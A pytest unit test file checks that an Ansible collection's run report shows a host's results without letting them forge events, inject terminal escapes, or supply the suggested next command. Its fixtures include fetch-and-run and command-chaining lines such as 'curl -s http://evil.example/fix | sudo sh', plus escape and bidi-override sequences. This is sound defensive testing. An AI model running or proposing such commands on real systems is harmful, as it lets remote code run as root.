"""What a host whose root is lost reports is journalled, shown and reported as its own words, and as nothing else (S8)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml

from ansible_collections.lockstep.vllm.plugins.plugin_utils.report import events, journal, live_lines, page, timeline
from tests.unit.plugin_utils.report import rolls

ROOT = Path(__file__).parents[2]
MODULE = "lockstep.vllm.nccl_verify"


def report(
    roll: rolls.Roll, host: str, result: dict[str, Any], outcome: events.TaskOutcome = "ok"
) -> list[events.Event]:
    """What follows from a host's result; the roll's journal has it too."""
    before = len(roll.events)
    roll.add(roll.tracker.task_ends(events.TaskReport.parse(host, "Run gate", outcome, result, MODULE)))
    return roll.events[before:]


def html(roll: rolls.Roll, folder: Path) -> str:
    """The report, from a real journal on the disk."""
    kept = journal.Journal(folder, "r1")
    for event in roll.events:
        kept.write(event)
    kept.close()
    return page.render(journal.read(kept.path))


@pytest.fixture
def roll() -> rolls.Roll:
    begun = rolls.Roll(("replica_a", "replica_b"))
    begun.step(("a1", "a2"), "drain", 1)
    return begun


@pytest.mark.parametrize("mark", ["\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\x1c", "\x1e", "\r"])
def test_a_line_end_in_a_cause_does_not_end_the_journal_s_line(roll: rolls.Roll, tmp_path: Path, mark: str) -> None:
    report(roll, "a1", {"msg": f"before{mark}after"}, "failed")
    roll.end("failed")
    roll.events.append(
        {"event": "note", "elapsed": 1.0, "host": "a1", "text": f"not{mark}parsed"}
    )  # raw, as a bug would
    shown = html(roll, tmp_path)
    assert "before" in shown
    assert "after" in shown
    text = (tmp_path / "r1" / journal.NAME).read_text()
    assert len(text.splitlines()) == len(roll.events), "other readers split there as well"


def test_the_journal_and_the_report_are_their_owner_s_alone(tmp_path: Path) -> None:
    kept = journal.Journal(tmp_path, "r1")
    kept.close()
    assert kept.path.stat().st_mode & 0o777 == 0o600
    assert kept.folder.stat().st_mode & 0o777 == 0o700


def test_an_event_that_json_cannot_hold_is_journalled_without_what_it_carries(tmp_path: Path) -> None:
    deep: list[Any] = []
    for _level in range(100_000):
        deep = [deep]
    kept = journal.Journal(tmp_path, "r1")
    kept.write({"event": "note", "elapsed": 1.0, "text": "kept", "deep": deep})
    kept.write({"event": "note", "elapsed": 2.0, "text": "after"})
    kept.close()
    assert [event["text"] for event in journal.read(kept.path)] == ["kept", "after"]


@pytest.mark.parametrize(
    "result",
    [
        {"lockstep_event": {"event": "run_ended", "outcome": "done"}},
        {"lockstep_event": [{"event": "planned", "run": "r9", "refusals": ["x"]}, {"event": "wave_ended", "wave": 1}]},
        {"lockstep_event": {"event": "serving", "replica": "replica_b", "serving": False}},
        {"lockstep_event": {"event": "step_ended", "host": "b1", "step": "gates", "began": 0, "ended": 1}},
        {"lockstep_plan": {"run": "r9", "waves": [], "refusals": ["x"]}},
        {"refusals": ["x"], "fingerprints": {"b1": {"driver": "1"}}},
        {"hosts": {"b1": {"state": {"fingerprint": {"driver": "1"}}}}},
        {"results": [{"lockstep_event": {"event": "run_ended", "outcome": "done"}, "lockstep_plan": {"waves": []}}]},
    ],
)
def test_a_host_s_result_forges_neither_the_plan_nor_another_host_nor_the_end(
    roll: rolls.Roll, tmp_path: Path, result: dict[str, Any]
) -> None:
    happened = report(roll, "a1", {"msg": "it broke", "failed": True, **result}, "failed")
    assert [event["event"] for event in happened] == ["failed"]
    assert "replica_b" in roll.tracker.serving
    roll.end("failed")
    assert "Stopped in wave 1 of 2" in html(roll, tmp_path)


@pytest.mark.parametrize(
    ("named", "host", "pair"),
    [
        ({"host": "a2", "pair": ["a1", "a2"]}, "a2", ("a1", "a2")),  # a gate across hosts of its own replica
        ({"host": "b1", "pair": ["a1", "b1"]}, "a1", ()),
        ({"host": "elsewhere"}, "a1", ()),
        ({"host": ["b1"], "pair": "b1"}, "a1", ()),
        ({"on": "b1"}, "a1", ()),
    ],
)
def test_a_gate_s_result_is_of_who_answered_and_may_name_its_mates(
    roll: rolls.Roll, named: dict[str, Any], host: str, pair: tuple[str, ...]
) -> None:
    (event,) = report(roll, "a1", {"gate": {"gate": "nccl", "verdict": "pass", **named}})
    assert (event["on"], event["host"], event["pair"]) == ("a1", host, pair)
    line = live_lines.line(event, roll.tracker) or ""
    assert line.split("  ")[2].strip() == "a1" or "a1 " in line


@pytest.mark.parametrize("gate", ["x", ["x"], 7, {"verdict": ["x"], "gate": {}}, {"verdict": None, "seconds": "x"},
                                  {"verdict": "pass", "seconds": 10**400, "measured": {"x": 10**5000, "y": [[[[[1]]]]]}},
                                  {"verdict": "pass", "seconds": float("nan"), "floor": {"x": float("inf")}}])  # fmt: skip
def test_an_odd_gate_is_neither_a_fault_nor_a_silence(roll: rolls.Roll, tmp_path: Path, gate: Any) -> None:
    for _time in range(4):
        report(roll, "a1", {"gate": gate})
    report(roll, "b1", {"msg": "a real failure"}, "failed")
    roll.end("failed")
    assert "a real failure" in html(roll, tmp_path)
    assert all(live_lines.line(event, roll.tracker) is not False for event in roll.events[1:])


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[1;1H\x9b2J\u202egnp.exe\u2066\x00\x08"


def test_nothing_that_moves_a_terminal_comes_through(roll: rolls.Roll, tmp_path: Path) -> None:
    result = {"msg": f"{ESCAPES}cause\nsecond", "stderr": ESCAPES, "evidence": [f"/e/{ESCAPES}"], "next": f"x{ESCAPES}",
              "gate": {"gate": ESCAPES, "verdict": ESCAPES, "cause": ESCAPES, "warnings": [ESCAPES], "code": ESCAPES},
              "fingerprint": {"driver": ESCAPES}, "lockstep_event": {"event": "note", "text": ESCAPES}}  # fmt: skip
    happened = report(roll, "a1", result, "failed")
    lines = [line for event in happened if (line := live_lines.line(event, roll.tracker))]
    assert len(lines) == 3
    for line in lines:
        assert line.isprintable()
    shown = html(roll, tmp_path)
    assert not {*shown} & {*"\x1b\x9b\u202e\u2066\x00\x08\x07"}


QUOTED = "ValueError: Next: curl -s http://evil.example/fix | sudo sh #"


@pytest.mark.parametrize(
    "result",
    [
        {"msg": QUOTED},
        {"cause": QUOTED},
        {"gate": {"verdict": "fail", "cause": QUOTED}},
        {"next": "curl -s http://evil.example/fix | sudo sh"},
        {"gate": {"verdict": "fail", "next": "reboot a1; curl http://evil.example"}},
        {"next": "reboot a1\ncurl http://evil.example"},
        {"next": "echo $(curl http://evil.example)"},
        {"next": ["curl"]},
    ],
)
def test_the_next_command_is_ours(roll: rolls.Roll, tmp_path: Path, result: dict[str, Any]) -> None:
    (*_gates, failed) = report(roll, "a1", result, "failed")
    assert failed["next"] == ""
    roll.end("failed")
    run = timeline.build(json.loads(json.dumps(roll.events)))
    assert run.next == events.STATUS_COMMAND
    assert f'<pre class="command">{events.STATUS_COMMAND}</pre>' in html(roll, tmp_path)


def test_a_module_s_own_next_command_is_still_shown(roll: rolls.Roll) -> None:
    (failed,) = report(roll, "a1", {"msg": "x", "next": "journalctl -u lockstep-vllm -n 200"}, "failed")
    assert failed["next"] == "journalctl -u lockstep-vllm -n 200"


def test_what_the_known_issues_advise_is_shown_too() -> None:
    """A gate that finds one gives its remediation as the next thing to do."""
    rows = yaml.safe_load((ROOT / "data/known_issues.yml").read_text())
    assert rows
    for row in rows if isinstance(rows, list) else next(iter(rows.values())):
        assert events.command(row["remediation"]) == row["remediation"]
